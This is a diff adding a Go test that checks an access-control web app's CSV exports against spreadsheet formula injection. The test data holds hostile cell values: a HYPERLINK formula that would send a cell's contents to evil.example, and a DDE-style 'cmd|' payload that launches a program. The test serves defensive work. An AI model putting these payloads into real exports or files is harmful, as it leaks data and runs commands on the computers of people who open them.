@@ -1,6 +1,7 @@
 package web
 
 import (
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"io"
@@ -119,3 +120,43 @@ func TestAccountLockoutBehindTrustedProxy(t *testing.T) {
 
 var _ = json.Marshal
 
+// Security 3: no cell of any CSV export starts a formula, whatever column
+// the attacker's text lands in (employee ID, name, door, area, reason).
+func TestCSVExportsNeutraliseFormulas(t *testing.T) {
+	h := newHarness(t)
+	h.user("ivy", storage.RoleInvestigator)
+	c := h.login("ivy")
+	p, err := h.db.Enroll(`=HYPERLINK("http://evil.example/?"&A1,"open")`, "+Mallory", []storage.NewTemplate{{ModelVersion: "m"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, dir := range []string{"in", "out"} {
+		_, err := h.rec.Record(storage.Event{AtMicro: h.now().Add(time.Duration(i-2) * time.Hour).UnixMicro(), Kind: "access_granted",
+			Granted: true, PersonID: p.ID, PersonName: p.Name, Door: "@SUM(1+1)", Area: "-2+3", Direction: dir,
+			Reason: "\tcmd|' /C calc'!A0", Code: "\r=1"}, nil, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	for _, path := range []string{"/entries.csv", "/presence/attendance.csv"} {
+		resp, err := c.Get(h.ts.URL + path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(resp.Body).ReadAll()
+		resp.Body.Close()
+		if err != nil || len(rows) < 2 {
+			t.Fatalf("%s: %d rows (%v)", path, len(rows), err)
+		}
+		for _, r := range rows[1:] {
+			for i, cell := range r {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("%s: column %s is a formula: %q", path, rows[0][i], cell)
+				}
+			}
+		}
+		if !strings.Contains(strings.Join(rows[1], ","), "'+Mallory") {
+			t.Errorf("%s: the name is not kept as text: %v", path, rows[1])
+		}
+	}
+}
